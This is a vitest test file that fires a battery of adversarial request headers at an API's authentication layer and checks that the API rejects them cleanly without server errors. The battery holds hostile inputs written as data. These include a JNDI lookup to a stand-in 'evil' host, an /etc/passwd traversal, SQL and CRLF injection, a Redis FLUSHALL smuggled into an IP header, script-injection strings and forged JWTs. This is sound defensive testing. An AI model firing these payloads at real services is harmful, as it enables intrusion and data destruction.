import { sign } from 'hono/jwt'
import { anonymousEnv } from '../support/assistants.ts'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { mintSessionToken } from '../../src/index.ts'
import { KEY_A, authApp, clientKeys, hello } from './support.ts'

const SECRET = 'adversarial-session-secret-0123456789abcdef'
const SITE = 'https://app.example.com'
const b64url = (text: string) => btoa(text).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '')
const jwt = (header: string, payload: string, signature = 'c2ln') => `${b64url(header)}.${b64url(payload)}.${signature}`
const exp = () => Math.floor(Date.now() / 1000) + 600

async function env() {
  return { CLIENT_KEYS: await clientKeys([{ key: KEY_A, id: 'a' }]), SESSION_SECRET: SECRET, ...anonymousEnv(SITE) }
}

/** Header sets that try to confuse, overflow or inject; none may produce a 500. */
async function battery(): Promise<[string, [string, string][]][]> {
  const valid = await mintSessionToken({ sub: 'u' }, SECRET)
  const hs256 = await crypto.subtle.importKey('raw', new TextEncoder().encode(SECRET), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign'])
  const deep = '['.repeat(20_000) + ']'.repeat(20_000)
  return [
    ['huge bearer', [['authorization', `Bearer ${'a'.repeat(100_000)}`]]],
    ['huge x-api-key', [['x-api-key', 'k'.repeat(64_000)]]],
    ['huge jwt', [['authorization', `Bearer ${jwt('{"alg":"HS256"}', JSON.stringify({ sub: 'u', exp: exp(), pad: 'x'.repeat(3000) }))}`]]],
    [
      'two Authorization headers, same key',
      [
        ['authorization', `Bearer ${KEY_A}`],
        ['authorization', `Bearer ${KEY_A}`],
      ],
    ],
    [
      'two Authorization headers, different',
      [
        ['authorization', `Bearer ${KEY_A}`],
        ['authorization', 'Bearer ce_sk_other'],
      ],
    ],
    [
      'two x-api-key headers',
      [
        ['x-api-key', KEY_A],
        ['x-api-key', KEY_A],
      ],
    ],
    [
      'Authorization and x-api-key differ',
      [
        ['authorization', `Bearer ${valid}`],
        ['x-api-key', KEY_A],
      ],
    ],
    ['empty Authorization', [['authorization', '']]],
    ['Bearer only spaces', [['authorization', 'Bearer    ']]],
    ['lower-case scheme, tab', [['authorization', `bearer\t${KEY_A}`]]],
    ['unicode key', [['x-api-key', 'ce_sk_\u00fc\u00f1\u00ee\u00e7\u00f8d\u00e9']]],
    ['emoji and RTL override', [['authorization', 'Bearer \u{1F511}\u202Eyek']]],
    ['zero-width space in key', [['x-api-key', `${KEY_A.slice(0, 10)}\u200b${KEY_A.slice(10)}`]]],
    ['SQL injection', [['authorization', "Bearer ' OR 1=1 --"]]],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text an attacker sends
    ['JNDI', [['x-api-key', '${jndi:ldap://evil/a}']]],
    ['path traversal', [['x-api-key', '../../../../etc/passwd']]],
    ['percent-encoded null', [['authorization', 'Bearer %00%0d%0aSet-Cookie:x=1']]],
    ['dots only', [['authorization', 'Bearer ..']]],
    ['jwt with empty parts', [['authorization', 'Bearer eyJ.eyJ.']]],
    ['jwt header not JSON', [['authorization', `Bearer ${b64url('nope')}.${b64url('{}')}.c2ln`]]],
    ['jwt payload a number', [['authorization', `Bearer ${jwt('{"alg":"HS256","typ":"JWT"}', '123')}`]]],
    ['jwt payload null', [['authorization', `Bearer ${await sign(null as never, hs256, 'HS256')}`]]],
    ['jwt payload array, signed', [['authorization', `Bearer ${await sign([1, 2] as never, hs256, 'HS256')}`]]],
    ['jwt deeply nested payload', [['authorization', `Bearer ${jwt('{"alg":"HS256"}', deep)}`]]],
    ['jwt crit header', [['authorization', `Bearer ${jwt('{"alg":"HS256","crit":["exp"]}', JSON.stringify({ sub: 'u', exp: exp() }))}`]]],
    ['jwt alg as object', [['authorization', `Bearer ${jwt('{"alg":{"x":1}}', JSON.stringify({ sub: 'u', exp: exp() }))}`]]],
    ['jwt signed with exp 1e308', [['authorization', `Bearer ${await sign({ sub: 'u', exp: 1e308 }, hs256, 'HS256')}`]]],
    ['jwt signed, sub with newline', [['authorization', `Bearer ${await sign({ sub: 'u\nINFO fake log', exp: exp() }, hs256, 'HS256')}`]]],
    [
      'jwt signed, __proto__ claims',
      [['authorization', `Bearer ${jwt('{"alg":"HS256"}', '{"sub":"u","exp":1,"__proto__":{"admin":true}}')}`]],
    ],
    ['jwt four parts', [['authorization', `Bearer ${valid}.extra`]]],
    ['valid token with padding', [['authorization', `Bearer ${valid}==`]]],
    ['origin javascript:', [['origin', 'javascript:alert(1)']]],
    ['origin huge', [['origin', `https://${'a'.repeat(10_000)}.com`]]],
    [
      'two origins',
      [
        ['origin', SITE],
        ['origin', 'https://evil.example'],
      ],
    ],
    ['origin with path', [['origin', `${SITE}/path`]]],
    [
      'cf-connecting-ip injection',
      [
        ['origin', SITE],
        ['cf-connecting-ip', '1.2.3.4:6379 FLUSHALL \u00e9'],
      ],
    ],
    [
      'request id injection',
      [
        ['x-request-id', '"><script>alert(1)</script>'],
        ['authorization', `Bearer ${KEY_A}`],
      ],
    ],
    ['request id huge', [['x-request-id', 'r'.repeat(5000)]]],
  ]
}

afterEach(() => vi.restoreAllMocks())

describe('adversarial headers', () => {
  it('never yield a 500: every answer is a success or a 4xx JSON error with a safe request id', async () => {
    const errors = vi.spyOn(console, 'error').mockImplementation(() => {})
    const { app } = authApp(await env())
    const seen = new Map<number, number>()
    for (const [name, headers] of await battery()) {
      for (const [method, path] of [
        ['POST', '/v1/chat'],
        ['GET', '/v1/models'],
        ['OPTIONS', '/v1/chat'],
        ['GET', '/healthz'],
      ] as const) {
        const h = new Headers({ 'content-type': 'application/json' })
        for (const [key, value] of headers) h.append(key, value)
        const res = await app.request(path, { method, headers: h, ...(method === 'POST' && { body: JSON.stringify(hello) }) })
        const context = `${name}: ${method} ${path} → ${res.status}`
        expect(res.status, context).toBeLessThan(500)
        seen.set(res.status, (seen.get(res.status) ?? 0) + 1)
        const requestId = res.headers.get('x-request-id')!
        expect(requestId, context).toMatch(/^[\w=-]{1,128}$/)
        if (res.status >= 400) {
          expect(res.headers.get('content-type'), context).toMatch(/^application\/json/)
          const body = (await res.json()) as { type: string; error: { type: string; message: string }; request_id: string }
          expect(body.type, context).toBe('error')
          expect(['authentication_error', 'permission_error', 'invalid_request_error', 'request_too_large'], context).toContain(
            body.error.type,
          )
          expect(body.error.message.length, context).toBeLessThan(400)
          expect(body.request_id).toBe(requestId)
        } else {
          await res.arrayBuffer()
        }
      }
    }
    expect(errors).not.toHaveBeenCalled()
    // The battery exercised refusals of both kinds and some successes (valid credentials, healthz, preflight).
    expect([...seen.keys()].sort()).toEqual(expect.arrayContaining([200, 204, 401, 403]))
  })

  it('a signed sub with a control character is refused, so it can never reach a log line or a Redis key', async () => {
    const { app } = authApp(await env())
    const key = await crypto.subtle.importKey('raw', new TextEncoder().encode(SECRET), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign'])
    const res = await app.request('/v1/models', {
      headers: { authorization: `Bearer ${await sign({ sub: 'u\nx', exp: exp() }, key, 'HS256')}` },
    })
    expect(res.status).toBe(401)
  })

  it('a safe client request id is echoed, an unsafe one replaced', async () => {
    const { app } = authApp(await env())
    const safe = await app.request('/healthz', { headers: { 'x-request-id': 'client-req_42=' } })
    expect(safe.headers.get('x-request-id')).toBe('client-req_42=')
    const unsafe = await app.request('/healthz', { headers: { 'x-request-id': 'id with spaces;drop' } })
    expect(unsafe.headers.get('x-request-id')).not.toContain(' ')
  })
})
